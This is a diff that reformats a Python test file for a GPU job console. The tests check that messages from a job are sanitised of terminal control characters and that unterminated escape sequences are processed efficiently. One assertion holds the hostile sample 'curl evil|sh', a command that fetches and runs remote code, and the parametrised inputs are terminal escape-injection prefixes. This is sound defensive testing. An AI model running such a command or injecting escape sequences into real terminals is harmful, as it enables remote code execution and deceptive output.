@@ -27,16 +27,30 @@ def test_a_line_of_progress_has_no_control_characters() -> None:
 def test_what_a_job_says_of_itself_reaches_the_terminal_as_text(tmp_path: Path) -> None:
     """A process of the job tells why its agent is off, in words of its own."""
     off = f"line = agent(0, 1, os.getpid()); send = line.sendall; cause = {EVIL!r}\n"
-    off += 'send(json.dumps({"event": "agentoff", "t": 2.0, "pid": 7, "rank": 0, "where": cause, "cause": cause}).encode() + b"\\n"); time.sleep(0.5)'
+    off += (
+        'send(json.dumps({"event": "agentoff", "t": 2.0, "pid": 7, "rank": 0, "where": cause,'
+        ' "cause": cause}).encode() + b"\\n"); time.sleep(0.5)'
+    )
     (tmp_path / "job.py").write_text(AGENT + off)
-    words = [sys.executable, "-m", "gpuconsole", "run", "--headless", "--", sys.executable, "job.py"]
+    words = [
+        sys.executable,
+        "-m",
+        "gpuconsole",
+        "run",
+        "--headless",
+        "--",
+        sys.executable,
+        "job.py",
+    ]
     done = subprocess.run(words, cwd=tmp_path, capture_output=True, timeout=60, check=False)
     said = done.stderr.decode()
     assert "run: curl evil|sh" in said, said
     assert all(character.isprintable() or character == "\n" for character in said)
 
 
-@pytest.mark.parametrize("begin", [b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b]a", b"\x1b[", b"\x1b]" + b"x" * 100])
+@pytest.mark.parametrize(
+    "begin", [b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b]a", b"\x1b[", b"\x1b]" + b"x" * 100]
+)
 def test_sequences_that_never_end_take_time_in_proportion_to_their_length(begin: bytes) -> None:
     """64 KB of `ESC ]` took 15 s in the event loop of the console."""
     lines, data = OutputLines(), begin * (65536 // len(begin))
